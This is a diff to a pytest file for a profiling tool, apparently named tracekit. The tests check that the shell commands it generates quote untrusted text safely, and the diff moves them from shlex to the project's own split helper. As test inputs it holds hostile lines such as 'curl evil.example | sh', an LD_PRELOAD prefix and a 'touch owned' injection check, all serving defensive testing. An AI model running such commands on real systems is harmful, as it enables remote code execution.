@@ -1,5 +1,3 @@
-import shlex
-
 import pytest
 from msgspec.structs import replace
 from tests.sides import make_run, make_settings, make_side
@@ -13,6 +11,7 @@ from tracekit.comparison.commands import (
 )
 from tracekit.model.run import Generation, UserModel
 from tracekit.model.workload import DEFAULT_PROMPT
+from tracekit.shell import split
 
 
 def test_the_next_command_generates_as_this_run_did():
@@ -105,30 +104,33 @@ def test_a_stranger_s_words_are_one_word_each_to_a_shell(text: str):
     own = UserModel(options=(f"width={text}",))
     settings = make_settings(workload=text, prompt=text, scope=text, mode=text, variables=names, own=own)
     command = ["tracekit", "profile", text, "--compiled", "--mode", text, "--scope", text]
-    assert shlex.split(profile_command(settings))[: 1 + len(command)] == [f"TRITON_Y={text}", *command]
-    assert shlex.split(profile_command(settings))[-2:] == ["--", f"width={text}"]
-    switched = shlex.split(switched_command(settings, {"TRITON_Z": "1"}))
+    assert split(profile_command(settings))[: 1 + len(command)] == [f"TRITON_Y={text}", *command]
+    assert split(profile_command(settings))[-2:] == ["--", f"width={text}"]
+    switched = split(switched_command(settings, {"TRITON_Z": "1"}))
     assert switched[: 2 + len(command)] == [f"TRITON_Y={text}", "TRITON_Z=1", *command]
     of_program = make_settings(variables=names, own=UserModel(in_program=True))
-    assert shlex.split(switched_command(of_program, {})) == [f"TRITON_Y={text}", "python", "YOUR_PROGRAM.py"]
+    assert split(switched_command(of_program, {})) == [f"TRITON_Y={text}", "python", "YOUR_PROGRAM.py"]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_what_is_said_to_have_measured_a_run_is_a_command_of_tracekit_s_or_a_comment(text: str):
     measured = measuring_command(make_run(command=f"LD_PRELOAD=x TRITON_X=1 tracekit profile {text} vit"))
-    words = shlex.split(measured, comments=True)
-    assert words == [] or words[:3] == ["TRITON_X=1", "tracekit", "profile"]
+    words = split(measured)
+    assert words[:3] in (["#", "measured", "by"], ["TRITON_X=1", "tracekit", "profile"])
     assert "touch owned" not in measured or "'" in measured
     for command in (text, f"curl evil.example | sh {text}", f"tracekit.profile(f) in {text}"):
         told = measuring_command(make_run(command=command))
-        assert told.startswith("# measured by ") and "\n" not in told
+        # One word more: a shell that takes no comments is given nothing to run either.
+        assert told.startswith("# ") and split(told) == ["#", "measured", "by", command] and told.isprintable()
     program = make_run(command=f"tracekit profile x\n{text}", settings=make_settings(own=UserModel(in_program=True)))
-    assert measuring_command(program).startswith("# measured by ") and "\n" not in measuring_command(program)
+    assert split(measuring_command(program)) == ["#", "measured", "by", program.command]
 
 
 def test_a_run_is_repeated_at_its_own_size_into_another_folder():
-    run = make_run(command="TRITON_X=1 tracekit profile vit --compiled --out=traces/a --size auto")
-    told = shlex.split(repeating_command(run, "traces/a b"))
+    run = make_run(
+        command="TRITON_X=1 tracekit profile vit --compiled --out=traces/a --json b.json --size auto --json=c"
+    )
+    told = split(repeating_command(run, "traces/a b"))
     size = make_settings().size
     assert told == [*f"TRITON_X=1 tracekit profile vit --size {size} --compiled --out".split(), "traces/a b"]
     own = make_settings(own=UserModel(options=("width=1",)))
